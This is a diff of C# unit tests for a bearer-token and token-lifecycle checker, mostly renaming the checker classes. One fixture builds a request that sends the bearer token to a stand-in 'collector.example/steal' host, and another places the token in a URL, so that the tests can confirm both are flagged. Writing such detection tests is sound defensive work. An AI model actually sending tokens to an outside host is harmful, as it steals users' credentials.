@@ -28,9 +28,9 @@ public sealed class AfterStepsCheckTests
     [Test]
     public void The_restricted_call_must_carry_step_16s_token()
     {
-        var good = BearerCallChecks.Evaluate(Call(SyntheticLogin.Target + "/api/v1/datasets", $"Bearer {Token}"), Token, [], Context).ToList();
-        var other = BearerCallChecks.Evaluate(Call(SyntheticLogin.Target + "/api/v1/datasets", "Bearer someone-else"), Token, [], Context).ToList();
-        var none = BearerCallChecks.Evaluate(Call(SyntheticLogin.Target + "/api/v1/datasets", null), Token, [], Context).ToList();
+        var good = Step17BearerCall.Evaluate(Call(SyntheticLogin.Target + "/api/v1/datasets", $"Bearer {Token}"), Token, [], Context).ToList();
+        var other = Step17BearerCall.Evaluate(Call(SyntheticLogin.Target + "/api/v1/datasets", "Bearer someone-else"), Token, [], Context).ToList();
+        var none = Step17BearerCall.Evaluate(Call(SyntheticLogin.Target + "/api/v1/datasets", null), Token, [], Context).ToList();
 
         good.Should().OnlyContain(c => c.Verdict == Verdict.Pass);
         other.Single(c => c.Id == "s17.bearer").Verdict.Should().Be(Verdict.Fail);
@@ -44,11 +44,11 @@ public sealed class AfterStepsCheckTests
         var leak = Call("http://collector.example/steal", $"Bearer {Token}") with { Id = 50 };
         var inUrl = Call(SyntheticLogin.Target + "/api/v1/datasets?access_token=" + Token, null) with { Id = 51 };
 
-        var checks = BearerCallChecks.Evaluate(call, Token, [call, leak, inUrl], Context).ToList();
+        var checks = Step17BearerCall.Evaluate(call, Token, [call, leak, inUrl], Context).ToList();
 
         checks.Single(c => c.Id == "s17.no-leak").Should().Match<Check>(c => c.Verdict == Verdict.Fail && c.Exchanges.Contains(50));
         checks.Single(c => c.Id == "s17.not-in-url").Verdict.Should().Be(Verdict.Warn);
-        BearerCallChecks.Evaluate(Call("http://elsewhere/api", $"Bearer {Token}"), Token, [], Context).Single(c => c.Id == "s17.target-origin").Verdict.Should().Be(Verdict.Fail);
+        Step17BearerCall.Evaluate(Call("http://elsewhere/api", $"Bearer {Token}"), Token, [], Context).Single(c => c.Id == "s17.target-origin").Verdict.Should().Be(Verdict.Fail);
     }
 
     [Test]
@@ -57,7 +57,7 @@ public sealed class AfterStepsCheckTests
         var call = new CallOutcome { Call = new CatalogueCall { Expect = 200 }, Label = "GET /", Status = 200 };
         var evidence = new LifecycleEvidence { Refresh = Token200(), Reuse = Error(400, "invalid_grant"), RefreshedCall = call, Logout = Token200() with { Status = 204 }, RefreshAfterLogout = Error(400, "invalid_grant") };
 
-        LifecycleChecks.Evaluate(evidence, new TokenDefectCascade([])).Should().OnlyContain(c => c.Verdict == Verdict.Pass).And.HaveCount(5);
+        Step16Lifecycle.Evaluate(evidence, new Step17TokenCheck([])).Should().OnlyContain(c => c.Verdict == Verdict.Pass).And.HaveCount(5);
     }
 
     [Test]
@@ -66,7 +66,7 @@ public sealed class AfterStepsCheckTests
         var call = new CallOutcome { Call = new CatalogueCall { Expect = 200 }, Label = "GET /", Status = 401 };
         var evidence = new LifecycleEvidence { Refresh = Error(400, "invalid_grant"), Reuse = Error(500, "server_error"), RefreshedCall = call, Logout = Error(400, "invalid_request"), RefreshAfterLogout = Token200() };
 
-        var checks = LifecycleChecks.Evaluate(evidence, new TokenDefectCascade([])).ToDictionary(c => c.Id, c => c.Verdict);
+        var checks = Step16Lifecycle.Evaluate(evidence, new Step17TokenCheck([])).ToDictionary(c => c.Id, c => c.Verdict);
 
         checks.Should().Contain(new Dictionary<string, Verdict>
         {
